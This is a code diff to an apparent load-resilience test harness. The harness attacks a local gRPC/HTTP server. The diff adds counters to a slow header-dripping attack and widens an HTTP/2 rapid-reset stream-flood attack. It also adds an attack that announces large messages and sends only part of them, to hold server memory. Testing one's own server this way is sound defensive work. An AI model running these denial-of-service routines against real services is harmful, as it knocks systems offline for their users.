@@ -130,7 +130,7 @@ def silent_connections(
 def dripping_http(target: Target, number: int = 40) -> Counts:
     """Connections that send a header's byte each half second, and again where the server closes them."""
     held: list[socket.socket | None] = [None] * number
-    closed = 0
+    opened = dripped = closed = 0
     request = b"GET /metrics HTTP/1.1\r\nHost: voxserve\r\nX-Drip: "
     started()
     while not target.is_over():
@@ -140,9 +140,11 @@ def dripping_http(target: Target, number: int = 40) -> Counts:
                     one = held[i] = socket.create_connection(
                         ("127.0.0.1", target.http_port), 1, source_address=(target.source, 0)
                     )
+                    opened += 1
                     one.sendall(request)
                 else:
                     one.sendall(b"x")
+                    dripped += 1
             except OSError:
                 closed += one is not None
                 if one is not None:
@@ -152,7 +154,7 @@ def dripping_http(target: Target, number: int = 40) -> Counts:
     for one in held:
         if one is not None:
             one.close()
-    return {"closed_by_server": closed}
+    return {"opened": opened, "dripped_bytes": dripped, "closed_by_server": closed}
 
 
 def endless_http(target: Target, kind: str = "chunks", number: int = 4) -> Counts:
@@ -217,26 +219,42 @@ def headers_without_body(target: Target, number: int = 700_000, path: str = http
     return {"begun": begun, "connections": connections, "closed_by_server": closed}
 
 
-def rapid_reset(target: Target, number: int = 2) -> Counts:
-    """Calls that are reset as soon as they are begun, over `number` connections at a time."""
-    block = http2.header_block(http2.INFER)
+def rapid_reset(target: Target, number: int = 2, kind: str = "headers") -> Counts:
+    """Calls that are reset as soon as they are begun, over `number` connections at a time. kind: "headers": without
+    their request. Else the request comes whole and the reset 10 ms later: of an "infer", of a "stream" with its config,
+    or of a health "check", which is answered meanwhile.
+    """
+    from calls import infer_request, scan, stream_config
+
+    path, message = {
+        "headers": (http2.INFER, None),
+        "infer": (http2.INFER, infer_request(scan(1))),
+        "stream": (http2.INFER_STREAM, stream_config(policy=2)),
+        "check": ("/grpc.health.v1.Health/Check", b""),
+    }[kind]
+    batch = {"headers": 200, "check": 25}.get(kind, 50)  # below the client's share, but for those without a request
+    block = http2.header_block(path)
+    reset = b"\x00\x00\x00\x08"
     begun = [0] * number
     opened = [0] * number
     closed = [0] * number
 
     def attack(i: int) -> None:
-        reset = b"\x00\x00\x00\x08"
         while not target.is_over():
             try:
                 with Connection(target.grpc_port, target.source) as connection:
                     opened[i] += 1
                     while not target.is_over() and not connection.is_closed:
-                        frames = [
-                            http2.call_frames(s, block) + http2.frame(http2.RST_STREAM, 0, s, reset)
-                            for s in connection.streams(200)
-                        ]
-                        connection.send(b"".join(frames))
-                        begun[i] += 200
+                        streams = connection.streams(batch)
+                        calls = [http2.call_frames(s, block, message, end=kind != "stream") for s in streams]
+                        resets = [http2.frame(http2.RST_STREAM, 0, s, reset) for s in streams]
+                        if message is None:
+                            connection.send(b"".join(both for pair in zip(calls, resets, strict=True) for both in pair))
+                        else:
+                            connection.send(b"".join(calls))
+                            time.sleep(0.01)
+                            connection.send(b"".join(resets))
+                        begun[i] += batch
                     closed[i] += connection.is_closed
             except OSError:
                 closed[i] += 1
@@ -245,6 +263,58 @@ def rapid_reset(target: Target, number: int = 2) -> Counts:
     started()
     _run_side_by_side(number, attack)
     return {"begun": sum(begun), "connections": sum(opened), "closed_by_server": sum(closed)}
+
+
+def half_sent_bodies(
+    target: Target,
+    number: int = 96,
+    connections: int = 8,
+    announced: int = 64 << 20,
+    sent: int = 62 << 20,
+    stream: bool = False,
+) -> Counts:
+    """Calls (or frames, of streams) that announce a message of so many bytes each, and send fewer, in step with each
+    other and as far as the server's windows open. Where the server closes a connection, another goes on.
+    """
+    from calls import stream_config
+
+    block = http2.header_block(http2.INFER_STREAM if stream else http2.INFER)
+    share = number // connections
+    piece = b"x" * (1 << 18)
+    opened = [0] * connections
+    begun = [0] * connections
+    total = [0] * connections
+    closed = [0] * connections
+
+    def attack(i: int) -> None:
+        while not target.is_over():
+            with contextlib.suppress(OSError), Connection(target.grpc_port, target.source) as connection:
+                opened[i] += 1
+                left = dict.fromkeys(connection.streams(share), sent)
+                for s in left:
+                    message = stream_config(policy=2) if stream else None
+                    connection.send(http2.call_frames(s, block, message, end=False))
+                    connection.send_data(s, b"\0" + announced.to_bytes(4, "big"))
+                    begun[i] += 1
+                while not target.is_over() and not connection.is_closed:
+                    for s in left:
+                        size = connection.send_data(s, piece[: left[s]], 0.2)
+                        left[s] -= size
+                        total[i] += size
+                    left = {s: rest for s, rest in left.items() if rest and s not in connection.ended}
+                    if not left:
+                        time.sleep(0.05)
+                closed[i] += connection.is_closed
+            time.sleep(0.05)
+
+    started()
+    _run_side_by_side(connections, attack)
+    return {
+        "begun": sum(begun),
+        "sent_mib": round(sum(total) / 2**20),
+        "connections": sum(opened),
+        "closed_by_server": sum(closed),
+    }
 
 
 def unread_answers(target: Target, number: int = 4200, in_flight: int = 48) -> Counts:
@@ -422,6 +492,7 @@ ATTACKS: dict[str, Callable[..., Counts]] = {
         endless_http,
         headers_without_body,
         rapid_reset,
+        half_sent_bodies,
         unread_answers,
         silent_streams,
         empty_fields,
